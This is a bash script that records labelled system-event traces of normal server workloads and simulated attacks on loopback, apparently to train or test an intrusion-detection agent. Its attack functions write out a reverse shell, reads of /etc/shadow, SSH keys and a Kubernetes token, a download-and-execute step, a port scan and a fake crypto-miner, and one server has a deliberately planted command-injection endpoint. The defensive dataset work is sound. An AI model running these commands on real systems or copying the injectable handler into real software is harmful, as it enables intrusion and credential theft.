#!/usr/bin/env bash
# Records the Baseliner event traces of datasets/traces/ again (see datasets/README.md, "Traces").
#
#   sudo datasets/record.sh                 # every scenario
#   sudo datasets/record.sh nginx miner     # only these (the manifest keeps the others)
#   sudo PARALLEL=1 DURATION=3000 datasets/record.sh nginx redis postgres pyhttp cronjob
#                                           # the normal traces at once, one capture each
#
# Environment: DURATION (seconds of each normal trace, default 60), PRE_ATTACK (seconds of normal
# workload before an attack, default 20), ATTACK_SECS (seconds recorded from the attack's start,
# default 15), BASELINER (the agent binary, default target/release/baseliner), PARALLEL=1 (record
# the normal scenarios named concurrently, each in its own cgroup with its own capture; attacks
# still run one after the other, afterwards), SEED (seed of the load pattern, default 1),
# BURST_MIN/BURST_MAX (seconds of a busy period, default 3/20), QUIET_MIN/QUIET_MAX (seconds of a
# quiet period, default 15/120), CRON_EVERY (seconds between two runs of the cron job, default 30).
#
# Load is bursty, as a real service sees it: busy periods (wrk / redis-benchmark / curl loops at
# full speed, pgbench rate-limited) alternate with quiet periods that get only a trickle of single requests,
# both of lengths drawn from a pseudo-random sequence seeded with SEED and the workload's name,
# so the same SEED gives the same pattern. Each server also does its periodic maintenance: nginx
# log rotation (USR1), redis BGSAVE / BGREWRITEAOF on top of its own snapshots, postgres VACUUM
# ANALYZE on top of its checkpoints and autovacuum.
#
# Every workload runs in its own cgroup /sys/fs/cgroup/unified/baseliner-dataset-<workload> (an
# attack scenario runs in the cgroup of the workload it attacks), started
# the way tests/benches/server_profiles.rs does it; load generators and attacker-side listeners
# run outside it. All traffic stays on 127.0.0.1.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ROOT=$(dirname "$HERE")
BIN=${BASELINER:-$ROOT/target/release/baseliner}
DURATION=${DURATION:-60}
PRE_ATTACK=${PRE_ATTACK:-20}
ATTACK_SECS=${ATTACK_SECS:-15}
PARALLEL=${PARALLEL:-0}
SEED=${SEED:-1}
BURST_MIN=${BURST_MIN:-3}
BURST_MAX=${BURST_MAX:-20}
QUIET_MIN=${QUIET_MIN:-15}
QUIET_MAX=${QUIET_MAX:-120}
CRON_EVERY=${CRON_EVERY:-30}
CGROOT=/sys/fs/cgroup/unified
OUT=$HERE/traces
PY=/usr/bin/python3
PGBIN=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -n 1)

NORMALS=(nginx redis postgres pyhttp cronjob)
ATTACKS=(miner reverse_shell credentials download_exec port_scan server_shell)

[[ $(id -u) == 0 ]] || { echo "record.sh: run as root" >&2; exit 1; }
[[ -x $BIN ]] || { echo "record.sh: $BIN missing (cargo build --release -p learner)" >&2; exit 1; }
mkdir -p "$OUT"
# A fixed work dir and fixed ports (when free) keep a workload's paths and argv the same in its
# normal trace and in the attack traces played against it.
WORK=/var/tmp/baseliner-dataset
rm -rf "$WORK"
mkdir -p -m 755 "$WORK"
ENTRIES=$WORK/entries.jsonl
: >"$ENTRIES"
CAPTURE_PID=
BG_PIDS=()
CREATED_FILES=() # fake secrets created for the credentials scenario (removed on exit)
CREATED_DIRS=()

log() { echo "[record $(date +%T)] $*" >&2; }

# free_port [preferred]: the preferred loopback port if free, else any free one.
free_port() {
    "$PY" -c '
import socket, sys
s = socket.socket()
try:
    s.bind(("127.0.0.1", int(sys.argv[1])))
except OSError:
    s.bind(("127.0.0.1", 0))
print(s.getsockname()[1])' "${1:-0}"
}

wait_port() { # port [seconds]
    local i
    for ((i = 0; i < ${2:-30} * 10; i++)); do
        (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null && return 0
        sleep 0.1
    done
    echo "nothing listens on 127.0.0.1:$1" >&2
    return 1
}

cg_path() { echo "$CGROOT/baseliner-dataset-$1"; }

# Kills everything in the cgroup and removes it.
cg_remove() {
    local cg=$1 i
    [[ -d $cg ]] || return 0
    if [[ -e $cg/cgroup.kill ]]; then echo 1 >"$cg/cgroup.kill" 2>/dev/null || true; fi
    for ((i = 0; i < 50; i++)); do
        [[ -z $(cat "$cg/cgroup.procs" 2>/dev/null) ]] && break
        xargs -r kill -9 <"$cg/cgroup.procs" 2>/dev/null || true
        sleep 0.1
    done
    rmdir "$cg" 2>/dev/null || true
}

# Moves the current (sub)shell into cgroup $1 and execs "$@" there with a fixed environment.
# Call it in a subshell: ( in_cg CG prog args ) or ( in_cg CG prog args ) &
in_cg() {
    local cg=$1 v
    shift
    echo "$BASHPID" >"$cg/cgroup.procs"
    for v in $(compgen -e); do unset "$v" 2>/dev/null || true; done
    export PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/root SHELL=/bin/bash LANG=C
    exec "$@"
}

# Waits for a listener started by this script to write its ready file.
wait_file() {
    local i
    for ((i = 0; i < 100; i++)); do [[ -e $1 ]] && return 0; sleep 0.1; done
    return 1
}

stop_capture() {
    if [[ -n $CAPTURE_PID ]]; then
        kill -INT "$CAPTURE_PID" 2>/dev/null || true
        wait "$CAPTURE_PID" 2>/dev/null || true
        CAPTURE_PID=
    fi
}

cleanup() {
    local rc=$? p d
    set +e
    stop_capture
    for p in "${BG_PIDS[@]}"; do pkill -TERM -P "$p" 2>/dev/null; kill "$p" 2>/dev/null; done
    for d in "$CGROOT"/baseliner-dataset-*; do [[ -d $d ]] && cg_remove "$d"; done
    for p in "${BG_PIDS[@]}"; do wait "$p" 2>/dev/null; done
    for p in "${CREATED_FILES[@]}"; do rm -f "$p"; done
    for ((i = ${#CREATED_DIRS[@]} - 1; i >= 0; i--)); do rmdir "${CREATED_DIRS[i]}" 2>/dev/null; done
    rm -rf "$WORK"
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ---------------------------------------------------------------- workloads
# Each wl_<name> <cg> <dir> <port> <seconds> starts its server inside the cgroup, drives it for
# <seconds> from outside (or runs its job inside), then stops it. They run in the foreground.

# The load pattern's pseudo-random numbers: an LCG of our own (bash's $RANDOM is reseeded in
# subshells and differs between bash versions). seed_rng <workload> starts the sequence of that
# workload; rnd LO HI sets R to a number in [LO, HI]. Call rnd without $( ), it changes RNG.
seed_rng() {
    local c
    RNG=$SEED
    for ((c = 0; c < ${#1}; c++)); do RNG=$(((RNG * 31 + $(printf '%d' "'${1:c:1}")) % 2147483648)); done
}
rnd() {
    RNG=$(((RNG * 1103515245 + 12345) % 2147483648))
    R=$(($1 + (RNG >> 8) % ($2 - $1 + 1)))
}

# drive <end> <burst> <trickle> [<maint> <min> <max>]: until $SECONDS reaches <end>, alternates a
# busy period (`<burst> SECS` runs a load generator for SECS) with a quiet period in which
# `<trickle>` sends one request every 1-12 s. `<maint>` runs in quiet periods, every <min>-<max> s.
# The functions see the caller's locals (d, port, ...).
drive() {
    local end=$1 burst=$2 trickle=$3 maint=${4:-} mmin=${5:-0} mmax=${6:-0} b qend next_maint=0 nap
    if [[ -n $maint ]]; then rnd "$mmin" "$mmax"; next_maint=$((SECONDS + R)); fi
    while ((SECONDS < end)); do
        rnd "$BURST_MIN" "$BURST_MAX"
        b=$R
        ((b > end - SECONDS)) && b=$((end - SECONDS))
        ((b > 0)) && "$burst" "$b"
        rnd "$QUIET_MIN" "$QUIET_MAX"
        qend=$((SECONDS + R))
        ((qend > end)) && qend=$end
        while ((SECONDS < qend)); do
            if [[ -n $maint ]] && ((SECONDS >= next_maint)); then
                "$maint"
                rnd "$mmin" "$mmax"
                next_maint=$((SECONDS + R))
            fi
            "$trickle"
            rnd 1 12
            nap=$R
            ((nap > qend - SECONDS)) && nap=$((qend - SECONDS))
            ((nap > 0)) && sleep "$nap"
        done
    done
}

NGINX_PATHS=(/index.html /about.html /contact.html /css/site.css /js/app.js /img/logo.svg /img/hero.jpg
    /fonts/inter-var.woff2 /favicon.ico /robots.txt /wp-login.php /.env /favicon.png /blog/)

nginx_burst() {
    rnd 2 8
    wrk -t 1 -c "$R" -d "${1}s" -s "$d/paths.lua" "http://127.0.0.1:$port/" >>"$d/wrk.out" 2>&1 || true
}
nginx_trickle() {
    rnd 0 $((${#NGINX_PATHS[@]} - 1))
    curl -s -o /dev/null "http://127.0.0.1:$port${NGINX_PATHS[R]}" || true
}
# logrotate's way: move the logs aside, USR1 makes the master reopen them.
nginx_rotate() {
    mv -f "$d/logs/access.log" "$d/logs/access.log.1" 2>/dev/null || true
    mv -f "$d/logs/error.log" "$d/logs/error.log.1" 2>/dev/null || true
    kill -USR1 "$srv" 2>/dev/null || true
}

wl_nginx() {
    local cg=$1 d=$2 port=$3 secs=$4 f paths=""
    mkdir -p "$d"/{conf,logs,tmp} "$d/html"/{css,js,img,fonts}
    for f in index.html:6000 about.html:4000 contact.html:3000 css/site.css:15000 js/app.js:40000 \
        img/logo.svg:2000 img/hero.jpg:90000 fonts/inter-var.woff2:30000 favicon.ico:1000 robots.txt:100; do
        head -c "${f#*:}" /dev/zero | tr '\0' x >"$d/html/${f%%:*}"
        paths+="\"/${f%%:*}\", "
    done
    paths+='"/wp-login.php", "/.env", "/favicon.png", "/blog/"'
    cat >"$d/conf/nginx.conf" <<EOF
daemon off;
worker_processes 2;
pid $d/logs/nginx.pid;
error_log $d/logs/error.log;
events { worker_connections 512; }
http {
  include /etc/nginx/mime.types;
  default_type application/octet-stream;
  access_log $d/logs/access.log;
  sendfile on;
  keepalive_timeout 65;
  client_body_temp_path $d/tmp/body;
  proxy_temp_path $d/tmp/proxy;
  fastcgi_temp_path $d/tmp/fastcgi;
  uwsgi_temp_path $d/tmp/uwsgi;
  scgi_temp_path $d/tmp/scgi;
  server {
    listen 127.0.0.1:$port;
    root $d/html;
    index index.html;
    location / { try_files \$uri \$uri/ =404; }
  }
}
EOF
    printf 'local paths = {%s}\nlocal i = 0\nrequest = function()\n  i = i %% #paths + 1\n  return wrk.format(nil, paths[i])\nend\n' \
        "$paths" >"$d/paths.lua"
    (in_cg "$cg" /usr/sbin/nginx -p "$d" -c "$d/conf/nginx.conf" -e "$d/logs/error.log") </dev/null >"$d/nginx.out" 2>&1 &
    local srv=$!
    wait_port "$port"
    seed_rng nginx
    drive $((SECONDS + secs)) nginx_burst nginx_trickle nginx_rotate 480 1200
    kill -QUIT "$srv" 2>/dev/null || true
    wait "$srv" 2>/dev/null || true
}

redis_burst() {
    local bend=$((SECONDS + $1)) c
    rnd 5 20
    c=$R
    while ((SECONDS < bend)); do
        timeout $((bend - SECONDS + 1)) redis-benchmark -h 127.0.0.1 -p "$port" -q -c "$c" -n 5000 -r 100000 -d 64 \
            -t set,get,incr,lpush,rpop,sadd,hset,lrange_100 </dev/null >>"$d/bench.out" 2>&1 || true
    done
}
redis_trickle() {
    rnd 1 100000
    redis-cli -h 127.0.0.1 -p "$port" SET "session:$R" "user-$R" EX 600 >/dev/null 2>&1 || true
    redis-cli -h 127.0.0.1 -p "$port" GET "key:__rand_int__" >/dev/null 2>&1 || true
}
# On top of redis' own snapshots ("save 5 1000"): an operator's BGSAVE, sometimes BGREWRITEAOF.
redis_maint() {
    redis-cli -h 127.0.0.1 -p "$port" BGSAVE >/dev/null 2>&1 || true
    rnd 1 3
    if ((R == 1)); then
        sleep 2
        redis-cli -h 127.0.0.1 -p "$port" BGREWRITEAOF >/dev/null 2>&1 || true
    fi
}

wl_redis() {
    local cg=$1 d=$2 port=$3 secs=$4
    mkdir -p "$d"
    cat >"$d/redis.conf" <<EOF
bind 127.0.0.1
port $port
protected-mode yes
daemonize no
dir $d
dbfilename dump.rdb
save 5 1000
appendonly yes
appendfsync everysec
logfile $d/redis.log
pidfile $d/redis.pid
EOF
    chown -R redis:redis "$d"
    (
        cd "$d"
        in_cg "$cg" setpriv --reuid=redis --regid=redis --clear-groups /usr/bin/redis-server "$d/redis.conf"
    ) </dev/null >"$d/redis.out" 2>&1 &
    local srv=$!
    wait_port "$port"
    seed_rng redis
    drive $((SECONDS + secs)) redis_burst redis_trickle redis_maint 240 720
    kill -TERM "$srv" 2>/dev/null || true
    wait "$srv" 2>/dev/null || true
}

# initdb is installation, not the workload: it runs outside the cgroup, before capture starts.
prep_postgres() {
    local d=$1
    mkdir -p "$d/sock"
    chown -R postgres:postgres "$d"
    (cd "$d" && setpriv --reuid=postgres --regid=postgres --clear-groups env -i PATH=/usr/bin:/bin LANG=C \
        "$PGBIN/initdb" -U postgres --auth=trust --no-sync -D "$d/data" >"$d/initdb.out" 2>&1)
}

pg_burst() {
    local c r
    rnd 1 4
    c=$R
    rnd 50 400
    r=$R
    "$PGBIN/pgbench" -h 127.0.0.1 -p "$port" -U postgres -T "$1" -c "$c" -j 1 -R "$r" postgres >>"$d/bench.out" 2>&1 || true
}
pg_trickle() {
    rnd 1 200000
    "$PGBIN/psql" -h 127.0.0.1 -p "$port" -U postgres -d postgres -qAt \
        -c "SELECT abalance FROM pgbench_accounts WHERE aid = $R" >/dev/null 2>&1 || true
}
# Checkpoints (checkpoint_timeout 5 min) and autovacuum happen by themselves; an operator's
# VACUUM ANALYZE comes on top.
pg_maint() {
    "$PGBIN/psql" -h 127.0.0.1 -p "$port" -U postgres -d postgres -qAt -c "VACUUM ANALYZE" >/dev/null 2>&1 || true
}

wl_postgres() {
    local cg=$1 d=$2 port=$3 secs=$4 end i
    (
        cd "$d"
        in_cg "$cg" setpriv --reuid=postgres --regid=postgres --clear-groups "$PGBIN/postgres" \
            -D "$d/data" -p "$port" -c listen_addresses=127.0.0.1 -k "$d/sock"
    ) </dev/null >"$d/postgres.out" 2>&1 &
    local srv=$!
    end=$((SECONDS + secs))
    wait_port "$port"
    for ((i = 0; i < 300; i++)); do
        "$PGBIN/pg_isready" -q -h 127.0.0.1 -p "$port" && break
        sleep 0.1
    done
    "$PGBIN/pgbench" -h 127.0.0.1 -p "$port" -U postgres -i -s 2 -q postgres >>"$d/bench.out" 2>&1 || true
    seed_rng postgres
    drive "$end" pg_burst pg_trickle pg_maint 600 1200
    kill -INT "$srv" 2>/dev/null || true
    wait "$srv" 2>/dev/null || true
}

# A small site served by python3's http.server. The handler class is http.server's
# SimpleHTTPRequestHandler plus one "debug" endpoint that runs a shell command (the
# vulnerability the server_shell scenario exploits; normal load never calls it).
prep_pyhttp() {
    local d=$1 f
    mkdir -p "$d/www"/{static,docs}
    for f in index.html:5000 static/app.js:30000 static/style.css:8000 docs/guide.html:12000 docs/data.json:2000; do
        head -c "${f#*:}" /dev/zero | tr '\0' y >"$d/www/${f%%:*}"
    done
    cat >"$d/httpd.py" <<'EOF'
import http.server, os, sys, urllib.parse

class Handler(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        if url.path == "/debug/run":
            cmd = urllib.parse.parse_qs(url.query).get("cmd", ["true"])[0]
            status = os.system(cmd)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"status %d\n" % status)
            return
        super().do_GET()

    def log_message(self, *args):
        pass

port = int(sys.argv[1])
os.chdir(sys.argv[2])
http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
EOF
    # The download_exec scenario's payload, served by the site itself.
    printf '#!/bin/sh\nid\nuname -a\ncat /etc/hostname\nls /root >/dev/null 2>&1\n' >"$d/www/static/update.sh"
}

PYHTTP_PATHS=(/ /index.html /static/app.js /static/style.css /docs/guide.html /docs/data.json /docs/ /missing.html)

# 1-3 clients, each fetching the site's pages one after the other.
pyhttp_burst() {
    local bend=$((SECONDS + $1)) n k p pids=()
    rnd 1 3
    n=$R
    for ((k = 0; k < n; k++)); do
        (
            while ((SECONDS < bend)); do
                for p in "${PYHTTP_PATHS[@]}"; do
                    curl -s -o /dev/null "http://127.0.0.1:$port$p" || true
                done
            done
        ) &
        pids+=($!)
    done
    wait "${pids[@]}" 2>/dev/null || true
}
pyhttp_trickle() {
    rnd 0 $((${#PYHTTP_PATHS[@]} - 1))
    curl -s -o /dev/null "http://127.0.0.1:$port${PYHTTP_PATHS[R]}" || true
}

wl_pyhttp() {
    local cg=$1 d=$2 port=$3 secs=$4
    (in_cg "$cg" "$PY" "$d/httpd.py" "$port" "$d/www") </dev/null >"$d/pyhttp.out" 2>&1 &
    local srv=$!
    wait_port "$port"
    seed_rng pyhttp
    drive $((SECONDS + secs)) pyhttp_burst pyhttp_trickle
    kill -TERM "$srv" 2>/dev/null || true
    wait "$srv" 2>/dev/null || true
}

# A cron-like job: every CRON_EVERY s a fresh shell runs a backup-and-rotate script.
wl_cronjob() {
    local cg=$1 d=$2 secs=$4
    mkdir -p "$d/data/etc" "$d/backups"
    cp /etc/hostname /etc/os-release "$d/data/etc/" 2>/dev/null || true
    seq 1 2000 >"$d/data/numbers.txt"
    cat >"$d/job.sh" <<EOF
#!/bin/bash
set -u
date +%FT%T >>"$d/data/runs.log"
tar -czf "$d/backups/data-\$(date +%s).tar.gz" -C "$d/data" .
find "$d/data" -type f -name '*.txt' >/dev/null
ls -1t "$d"/backups/*.tar.gz | tail -n +4 | xargs -r rm -f
du -sh "$d/backups" >/dev/null
logger -t baseliner-cronjob "backup done"
EOF
    chmod +x "$d/job.sh"
    (in_cg "$cg" timeout "$secs" /bin/bash -c "while :; do /bin/bash '$d/job.sh'; sleep $CRON_EVERY; done") </dev/null >"$d/cron.out" 2>&1 || true
}

# ---------------------------------------------------------------- attacks
# Each at_<name> <cg> <dir> <port> runs while the workload runs; prints nothing.

XMR_ADDR=48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD

at_miner() {
    local cg=$1 d=$2 pool
    pool=$(free_port)
    # The "pool": answers the stratum login with a job, outside the workload's cgroup.
    "$PY" -c '
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(4); s.settimeout(30)
open(sys.argv[2], "w").close()
c, _ = s.accept(); c.settimeout(15)
c.recv(4096)
c.sendall(b"{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"id\":\"1\",\"job\":{\"blob\":\"0707\",\"job_id\":\"1\",\"target\":\"b88d0600\"},\"status\":\"OK\"}}\n")
time.sleep(12)
' "$pool" "$d/pool.ready" >/dev/null 2>&1 &
    BG_PIDS+=($!)
    wait_file "$d/pool.ready" || true
    mkdir -p "$d/.cache"
    cat >"$d/.cache/xmrig" <<'EOF'
#!/bin/bash
# Stand-in for the xmrig miner: logs in to the pool given with -o and "mines" (sleeps).
url=${2#stratum+tcp://}
exec 3<>"/dev/tcp/${url%:*}/${url##*:}"
printf '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"XMRig/6.21.0"}}\n' "$4" >&3
read -r -t 5 job <&3 || true
cat /proc/cpuinfo >/dev/null
sleep 10
EOF
    chmod +x "$d/.cache/xmrig"
    (in_cg "$cg" "$d/.cache/xmrig" -o "stratum+tcp://127.0.0.1:$pool" -u "$XMR_ADDR" --donate-level 1 -t 2) \
        </dev/null >/dev/null 2>&1 || true
}

at_reverse_shell() {
    local cg=$1 d=$2 lport
    lport=$(free_port)
    "$PY" -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(30)
open(sys.argv[3], "w").close()
c, _ = s.accept(); c.settimeout(10)
c.sendall(b"id; uname -a; exit\n")
out = b""
while True:
    b = c.recv(4096)
    if not b: break
    out += b
open(sys.argv[2], "wb").write(out)
' "$lport" "$d/revshell.out" "$d/listener.ready" &
    local lst=$!
    wait_file "$d/listener.ready" || true
    (in_cg "$cg" /bin/bash -c "bash -i >& /dev/tcp/127.0.0.1/$lport 0>&1") </dev/null >/dev/null 2>&1 || true
    wait "$lst" 2>/dev/null || true
}

at_credentials() {
    local cg=$1 d=$2 tok=/var/run/secrets/kubernetes.io/serviceaccount/token p
    # Fake secrets, only where nothing exists (never overwrite a real file).
    for p in /root/.ssh /var/run/secrets /var/run/secrets/kubernetes.io /var/run/secrets/kubernetes.io/serviceaccount; do
        if [[ ! -e $p ]]; then mkdir -m 700 "$p" && CREATED_DIRS+=("$p"); fi
    done
    if [[ ! -e /root/.ssh/id_rsa ]]; then
        printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-KEY-FOR-BASELINER-DATASET\n-----END OPENSSH PRIVATE KEY-----\n' >/root/.ssh/id_rsa
        CREATED_FILES+=(/root/.ssh/id_rsa)
    fi
    if [[ ! -e $tok ]]; then
        echo "eyJhbGciOiJSUzI1NiJ9.fake-baseliner-dataset-token.sig" >"$tok"
        CREATED_FILES+=("$tok")
    fi
    (in_cg "$cg" /bin/bash -c "cat /etc/shadow; cat /root/.ssh/id_rsa; cat $tok; ls -la /root/.ssh; cat /etc/passwd") \
        </dev/null >/dev/null 2>&1 || true
    for p in "${CREATED_FILES[@]}"; do rm -f "$p"; done
    for ((i = ${#CREATED_DIRS[@]} - 1; i >= 0; i--)); do rmdir "${CREATED_DIRS[i]}" 2>/dev/null || true; done
    CREATED_FILES=()
    CREATED_DIRS=()
}

at_download_exec() {
    local cg=$1 d=$2 port=$3 f
    f=$(mktemp -u /tmp/.sysupdate-XXXXXX.sh)
    (in_cg "$cg" /bin/bash -c "curl -s -o $f http://127.0.0.1:$port/static/update.sh && chmod +x $f && $f") \
        </dev/null >/dev/null 2>&1 || true
    rm -f "$f"
}

at_port_scan() {
    local cg=$1
    (in_cg "$cg" timeout 30 /bin/bash -c \
        'for p in $(seq 1 200); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && echo "open $p"; done') \
        </dev/null >/dev/null 2>&1 || true
}

at_server_shell() {
    local port=$3
    curl -s -o /dev/null "http://127.0.0.1:$port/debug/run?cmd=id%3B%20cat%20%2Fetc%2Fpasswd" || true
}

# ---------------------------------------------------------------- scenarios

describe() {
    case $1 in
    nginx) echo "nginx (master + 2 workers, root) serving a static site on loopback, bursty load: wrk bursts (1 thread, 2-8 connections) between quiet periods of single curl requests, including a few 404 paths; log rotation with USR1 every 8-20 min" ;;
    redis) echo "redis-server as user redis (AOF + RDB snapshots every 5 s with 1000 changes), bursty load: redis-benchmark bursts between quiet periods of single SET/GET from redis-cli; BGSAVE every 4-12 min, sometimes BGREWRITEAOF" ;;
    postgres) echo "postgres as user postgres (initdb outside the capture) loaded with pgbench -i -s 2, then bursty load: pgbench bursts (1-4 clients, 50-400 tps) between quiet periods of single SELECTs from psql; checkpoints and autovacuum by themselves, VACUUM ANALYZE every 10-20 min" ;;
    pyhttp) echo "python3 http.server (ThreadingHTTPServer + SimpleHTTPRequestHandler in a small httpd.py) on loopback, bursty load: 1-3 curl loops over the site between quiet periods of single curl requests" ;;
    cronjob) echo "cron-like job: every ${CRON_EVERY} s a fresh bash runs date, tar -czf of a small dir, find/sort/xargs rm rotation, du and logger" ;;
    miner) echo "pyhttp, then a bash script named xmrig (in a hidden .cache dir) started with -o stratum+tcp://127.0.0.1:<port> -u <monero address> --donate-level 1 -t 2 connects to a loopback pool and logs in" ;;
    reverse_shell) echo "pyhttp, then bash -i >& /dev/tcp/127.0.0.1/<port> 0>&1 to a loopback listener that sends 'id; uname -a; exit'" ;;
    credentials) echo "nginx, then a shell reads /etc/shadow, /root/.ssh/id_rsa and the Kubernetes service-account token (fakes created for the scenario where absent)" ;;
    download_exec) echo "pyhttp, then curl fetches a script from the site itself into /tmp/.sysupdate-*.sh, chmod +x, runs it (id, uname -a, cat /etc/hostname)" ;;
    port_scan) echo "redis, then bash /dev/tcp connects to 127.0.0.1 ports 1-200 from inside the redis cgroup" ;;
    server_shell) echo "pyhttp, then a request to its debug endpoint makes the python3 server run /bin/sh -c 'id; cat /etc/passwd' (os.system)" ;;
    esac
}

base_of() {
    case $1 in
    miner | reverse_shell | download_exec | server_shell) echo pyhttp ;;
    credentials) echo nginx ;;
    port_scan) echo redis ;;
    *) echo "$1" ;;
    esac
}

record() {
    local name=$1 kind=normal base cg d port secs tmp start_ns end_ns attack_ns=null events wl
    base=$(base_of "$name")
    [[ $base != "$name" ]] && kind=attack
    cg=$(cg_path "$base") # attacks run in their workload's cgroup: same workload id as its normal trace
    d=$WORK/$base
    rm -rf "$d"
    mkdir -m 755 "$d"
    case $base in
    nginx) port=$(free_port 18080) ;;
    redis) port=$(free_port 16379) ;;
    postgres) port=$(free_port 15432) ;;
    pyhttp) port=$(free_port 18000) ;;
    *) port=$(free_port) ;;
    esac
    cg_remove "$cg"
    mkdir "$cg"
    case $base in
    postgres) prep_postgres "$d" ;;
    pyhttp) prep_pyhttp "$d" ;;
    esac
    if [[ $kind == normal ]]; then secs=$DURATION; else secs=$((PRE_ATTACK + ATTACK_SECS)); fi
    tmp=$WORK/$name.jsonl
    log "$name ($kind, workload $base, ${secs}s)"
    "$BIN" capture --json --cgroup "$cg" --dedup-window 5 --stats-json >"$tmp" 2>"$d/capture.err" &
    CAPTURE_PID=$!
    local i
    for ((i = 0; i < 600; i++)); do
        grep -q capturing "$d/capture.err" 2>/dev/null && break
        kill -0 "$CAPTURE_PID" 2>/dev/null || { cat "$d/capture.err" >&2; return 1; }
        sleep 0.1
    done
    start_ns=$(date +%s%N)
    "wl_$base" "$cg" "$d" "$port" "$secs" &
    wl=$!
    BG_PIDS+=("$wl")
    if [[ $kind == attack ]]; then
        sleep "$PRE_ATTACK"
        attack_ns=$(date +%s%N)
        log "$name: attack starts"
        "at_$name" "$cg" "$d" "$port"
    fi
    wait "$wl" || true
    sleep 1
    stop_capture
    end_ns=$(date +%s%N)
    cg_remove "$cg"
    gzip -9 -c "$tmp" >"$OUT/$name.jsonl.gz"
    events=$(wc -l <"$tmp")
    tail -n 1 "$d/capture.err" >"$WORK/$name.stats" || true
    "$PY" - "$name" "$kind" "$base" "$attack_ns" "$(describe "$name")" "$events" \
        "$(((end_ns - start_ns) / 1000000))" >>"$ENTRIES" <<'EOF'
import json, sys
name, kind, base, attack, desc, events, ms = sys.argv[1:]
print(json.dumps({"name": name, "file": f"traces/{name}.jsonl.gz", "kind": kind, "workload": base,
    "attack_start_ns": None if attack == "null" else int(attack), "description": desc,
    "labels": ["normal"] if kind == "normal" else [name], "events": int(events),
    "seconds": round(int(ms) / 1000, 1)}))
EOF
    log "$name: $events events -> traces/$name.jsonl.gz ($(stat -c %s "$OUT/$name.jsonl.gz") bytes)"
}

write_manifest() {
    "$PY" - "$HERE/manifest.json" "$ENTRIES" "${NORMALS[@]}" "${ATTACKS[@]}" <<'EOF'
import json, os, sys
path, entries, order = sys.argv[1], sys.argv[2], sys.argv[3:]
old = json.load(open(path)) if os.path.exists(path) else []
new = {e["name"]: e for e in old}
for line in open(entries):
    e = json.loads(line)
    new[e["name"]] = e
items = sorted(new.values(), key=lambda e: order.index(e["name"]) if e["name"] in order else 99)
with open(path, "w") as f:
    json.dump(items, f, indent=2)
    f.write("\n")
EOF
}

SCEN=("$@")
((${#SCEN[@]})) || SCEN=("${NORMALS[@]}" "${ATTACKS[@]}")
for s in "${SCEN[@]}"; do
    [[ " ${NORMALS[*]} ${ATTACKS[*]} " == *" $s "* ]] || { echo "unknown scenario $s" >&2; exit 2; }
done
if [[ $PARALLEL == 1 ]]; then
    # The normal scenarios at once, each a background record (own cgroup, work dir, port and
    # capture); the attacks after them, one at a time.
    PAR=()
    SEQ=()
    for s in "${SCEN[@]}"; do
        if [[ " ${NORMALS[*]} " == *" $s "* ]]; then PAR+=("$s"); else SEQ+=("$s"); fi
    done
    REC_PIDS=()
    for s in "${PAR[@]}"; do
        (
            trap - EXIT INT TERM
            record "$s"
        ) &
        REC_PIDS+=($!)
        BG_PIDS+=($!)
        sleep 2 # the captures load their programs one after the other
    done
    failed=0
    for p in "${REC_PIDS[@]}"; do wait "$p" || failed=1; done
    write_manifest
    ((failed == 0)) || { echo "record.sh: a parallel recording failed" >&2; exit 1; }
    SCEN=("${SEQ[@]}")
fi
for s in "${SCEN[@]}"; do
    record "$s"
    write_manifest
done
log "done: $HERE/manifest.json"
